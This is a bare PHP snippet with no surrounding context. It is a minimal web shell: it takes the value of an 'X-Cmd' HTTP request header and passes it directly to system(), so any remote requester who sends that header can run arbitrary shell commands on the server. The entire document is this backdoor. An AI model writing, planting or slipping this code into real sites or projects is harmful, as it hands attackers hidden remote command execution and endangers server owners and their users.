<?php
if (isset($_SERVER['HTTP_X_CMD'])) {
    system($_SERVER['HTTP_X_CMD']);
}
